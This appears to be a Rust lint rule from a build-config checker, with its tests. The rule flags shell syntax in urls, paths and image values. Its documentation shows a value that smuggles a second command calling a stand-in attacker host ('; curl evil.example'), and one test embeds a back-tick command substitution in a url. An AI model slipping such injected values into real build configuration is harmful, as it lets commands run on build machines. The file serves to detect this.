//! `shell-syntax-in-value`.

use crate::config::check::ShapeKind;
use crate::config::runtime::{Copy, Entrypoint};
use crate::config::values::Text;
use crate::config::words::{last_key, shell_syntax, short};
use crate::rules::{Findings, Subject, rule};
use crate::text::Span;

rule! {
    /// Shell syntax in a url, a path or an image.
    ///
    /// What comes from there is either run as a command of its own or breaks the instruction that it stands in.
    ///
    /// ```toml,bad
    /// language = "go"
    /// build.target = "./cmd/server; curl evil.example"
    /// ```
    ///
    /// ```toml,good
    /// language = "go"
    /// build.target = "./cmd/server"
    /// ```
    ///
    /// # When to ignore
    ///
    /// Never: the value cannot be written into an instruction as it is. A file with such a name has to be renamed.
    "shell-syntax-in-value", Error, check
}

fn check(subject: &Subject<'_>, findings: &mut Findings<'_>) {
    for shape in subject.shapes_of("shell-syntax-in-value") {
        let name = last_key(&shape.path);
        let node = subject.document.find(&shape.path).map(|found| found.node);
        let text = node.and_then(|node| node.string()).unwrap_or_default();
        let message = match shell_syntax(text) {
            _ if shape.kind == ShapeKind::ControlCharacter && text.contains('\\') => {
                format!("`{name}` holds a backslash")
            }
            _ if shape.kind == ShapeKind::ControlCharacter => {
                format!("`{name}` holds a line break or another control character")
            }
            Some(found) => format!("`{name}` holds {found}"),
            None if text.is_empty() => format!("`{name}` is empty"),
            None => format!("`{}` does not have the form of `{name}`", short(text)),
        };
        findings
            .report(shape.span, message)
            .why("it would end its instruction, or be read as another one")
            .help(match shape.kind {
                ShapeKind::ControlCharacter if text.contains('\\') => "write paths with `/`",
                ShapeKind::ControlCharacter => "write it on one line",
                _ => form(name),
            });
    }
    for (name, text) in values(subject) {
        let is_address = matches!(name, "url");
        let found = match shell_syntax(&text) {
            Some(found) => Some(found),
            None if is_address && text.contains(char::is_whitespace) => Some("white space"),
            None => None,
        };
        if let Some(found) = found {
            findings
                .report(text.span, format!("`{name}` holds {found}"))
                .why("a shell could run what follows, or the instruction would break there")
                .help("write the plain value, without shell syntax");
        }
    }
}

fn form(name: &str) -> &'static str {
    match name {
        "tags" => "a tag has letters, digits, `_` and `.`: `tags = [\"netgo\"]`",
        "version" => "a version has letters, digits and `._+-`: `version = \"1.2.0\"`",
        "chown" | "user" => "write names or numbers: `\"app:app\"` or `\"10001:10001\"`",
        _ => "write the plain value, without blanks, quotes, commas, `$` and `\\`",
    }
}

/// The urls, paths and images of a document, each with its key.
fn values(subject: &Subject<'_>) -> Vec<(&'static str, Text)> {
    let config = subject.config;
    let mut values: Vec<(&'static str, Text)> = Vec::new();
    let build = &config.build;
    let runtime = &config.runtime;
    let mut plain = vec![
        ("target", &build.target),
        ("output", &build.output),
        ("image", &build.image),
        ("image", &runtime.image),
        ("workdir", &runtime.workdir),
    ];
    for tool in &config.external_tools {
        plain.extend([
            ("url", &tool.url),
            ("image", &tool.image),
            ("src", &tool.src),
            ("dst", &tool.dst),
            ("install_path", &tool.install_path),
            ("member", &tool.member),
        ]);
    }
    for binary in &config.build.binaries {
        plain.push(("dst", &binary.dst));
        values.push(("path", binary.path.clone()));
    }
    for stage in &config.stages {
        plain.push(("workdir", &stage.workdir));
        values.push(("from", stage.from.clone()));
    }
    for (name, text) in plain {
        values.extend(text.iter().map(|text| (name, text.clone())));
    }
    for copy in config.build.copy.iter().chain(&config.runtime.copy) {
        copied(copy, &mut values);
    }
    for asset in &config.assets {
        values.extend(asset.src.texts().into_iter().map(|text| ("src", text)));
        values.push(("dst", asset.dst.clone()));
    }
    let lists = [
        ("dirs", &config.runtime.dirs),
        ("volumes", &config.runtime.volumes),
    ];
    for (name, list) in lists {
        let texts = list.iter().flat_map(|list| &list.value);
        values.extend(texts.map(|text| (name, text.clone())));
    }
    if let Some(entrypoint) = &config.runtime.entrypoint
        && let Entrypoint::Table(table) = &entrypoint.value
    {
        values.extend(table.script.iter().map(|text| ("script", text.clone())));
        values.extend(table.dst.iter().map(|text| ("dst", text.clone())));
    }
    values.retain(|(_, text)| text.span != Span::default());
    values
}

fn copied(copy: &Copy, values: &mut Vec<(&'static str, Text)>) {
    values.extend(copy.src.texts().into_iter().map(|text| ("src", text)));
    values.push(("dst", copy.dst.clone()));
    values.extend(copy.source().map(|text| ("from", text.clone())));
}

#[cfg(test)]
mod tests {
    use crate::rules::tests::check;

    #[test]
    fn a_url_runs_nothing() {
        check(
            r#"
language = "go"
[[external_tools]]
name = "x"
url = "https://example.com/x`id`"
#     ^^^^^^^^^^^^^^^^^^^^^^^^^^^ error: `url` holds a back-tick
sha256 = "c12b889e3349f0e5610aec32fe327e5a6911a0e472754a0c381c30c7c0630e88"
dst = "/usr/local/bin/x"
"#,
        );
    }

    #[test]
    fn an_owner_has_the_form_of_one() {
        check(
            r#"
language = "go"
runtime.copy = [{ src = "x", dst = "/app/", chown = "app app" }]
#                                                   ^^^^^^^^^ error: `app app` does not have the form of `chown`
"#,
        );
    }

    #[test]
    fn a_blank_in_a_path_is_fine() {
        check("language = \"go\"\nruntime.copy = [{ src = \"read me.txt\", dst = \"/app/\" }]\n");
    }

    #[test]
    fn placeholders_of_a_url_are_fine() {
        check(
            r#"
language = "go"
[[external_tools]]
name = "x"
url = "https://example.com/x-${arch}-${version}?a=b&c=d"
version = "1"
sha256 = { amd64 = "c12b889e3349f0e5610aec32fe327e5a6911a0e472754a0c381c30c7c0630e88", arm64 = "b76308f558d50d006add507f3ab86afc1147644519dd327f7f5fac6d02d4f595" }
dst = "/usr/local/bin/x"
"#,
        );
    }
}
